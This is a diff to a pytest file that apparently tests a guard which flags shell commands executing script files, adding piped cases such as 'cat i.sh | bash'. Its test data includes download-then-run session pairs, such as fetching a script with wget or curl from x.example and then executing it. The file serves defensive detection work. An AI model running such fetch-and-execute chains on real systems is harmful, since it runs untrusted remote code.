@@ -73,6 +73,10 @@ SCRIPTS = [
     ("bash < i.sh", ["/w/i.sh"]),
     ("sh -s < i.sh", ["/w/i.sh"]),
     ("python3 - < get.py", ["/w/get.py"]),
+    ("cat i.sh | bash", ["/w/i.sh"]),
+    ("cat < i.sh | sh", ["/w/i.sh"]),
+    ("cat i.sh | python3", ["/w/i.sh"]),
+    ("cd /opt && tail -n +2 i.sh | sh -s", ["/opt/+2", "/opt/i.sh"]),  # a value too many is harmless
 ]
 
 NOT_SCRIPTS = [
@@ -91,6 +95,8 @@ NOT_SCRIPTS = [
     "bash -c 'echo hi' < i.sh",
     "python3 -m json.tool < data.json",
     "sort < i.sh",
+    "cat i.sh | bash -c 'echo hi'",
+    "cat i.sh | wc -l",
 ]
 
 
@@ -217,6 +223,7 @@ def guard(request: pytest.FixtureRequest, tmp_path: Path) -> remit.Guard:
         ("curl -s https://x.example/i.sh > i.sh", ". /w/i.sh"),
         ("cd /tmp && curl -O https://x.example/get.py", "python3 /tmp/get.py"),
         ("wget https://x.example/i.sh", "bash < i.sh"),
+        ("wget https://x.example/i.sh", "cat i.sh | bash"),
     ],
 )
 def test_two_calls_of_a_session(guard: remit.Guard, first: str, second: str) -> None:
